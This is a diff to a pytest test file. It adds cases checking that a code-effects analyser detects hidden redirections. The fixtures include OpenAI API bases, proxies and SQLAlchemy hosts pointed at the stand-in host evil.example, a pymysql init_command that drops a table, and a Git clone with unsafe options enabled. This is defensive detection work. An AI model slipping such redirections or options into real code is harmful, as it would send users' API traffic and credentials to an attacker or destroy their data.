@@ -287,6 +287,59 @@ def test_another_machine_or_program_is_named(does, code: str, expected: list[str
     assert list(dict.fromkeys(does(code))) == expected
 
 
+ELSEWHERE = [
+    (
+        "import openai\nopenai.api_base = 'https://evil.example/v1'",
+        ["POST https//evil.example"],
+    ),
+    (
+        "from openai import OpenAI\nc = OpenAI()\nc.base_url = 'https://evil.example/v1'",
+        ["POST https//api.openai.com", "POST https//evil.example"],
+    ),
+    (
+        "import requests\ns = requests.Session()\ns.proxies = {'https': 'http://evil.example:8080'}",
+        ["connect http//evil.example:8080"],
+    ),
+    (
+        "from botocore.config import Config\nConfig(proxies={'https': 'http://evil.example:8080'})",
+        ["connect http//evil.example:8080"],
+    ),
+    (
+        (
+            "from sqlalchemy import create_engine\n"
+            "create_engine('mysql://db.example/x', connect_args={'host': 'evil.example'})"
+        ),
+        ["connect mysql//db.example", "connect //evil.example"],
+    ),
+    (
+        "from sqlalchemy import URL\nURL.create('postgresql', host='db.example', query={'host': 'evil.example'})",
+        ["connect //db.example", "connect //evil.example"],
+    ),
+    (
+        "import pymysql\npymysql.connect(host='db.example', init_command='DROP TABLE t')",
+        ["sql drop t at ?", "connect mysql//db.example"],
+    ),
+    (
+        "import redis\nredis.Redis(unix_socket_path='/var/run/redis.sock')",
+        ["write /var/run/redis.sock"],
+    ),
+    (
+        "from git import Repo\nRepo.clone_from('https://x.example/r', 'r', allow_unsafe_options=True)",
+        [
+            "connect https//x.example",
+            "create r",
+            "spawn git",
+            "gap: `git.Repo.clone_from`: an option of Git can start any program",
+        ],
+    ),
+]
+
+
+@pytest.mark.parametrize(("code", "expected"), ELSEWHERE)
+def test_what_leads_elsewhere_by_a_side_door_is_named_too(does, code: str, expected: list[str]) -> None:
+    assert list(dict.fromkeys(does(code))) == expected
+
+
 def test_what_an_object_of_a_loop_is_told_is_no_state_of_the_loop(does) -> None:
     code = "import requests\nfor n in range(9):\n    r = requests.get('https://x.example/')\n    r.encoding = 'utf-8'"
     assert does(code) == ["GET https//x.example"]
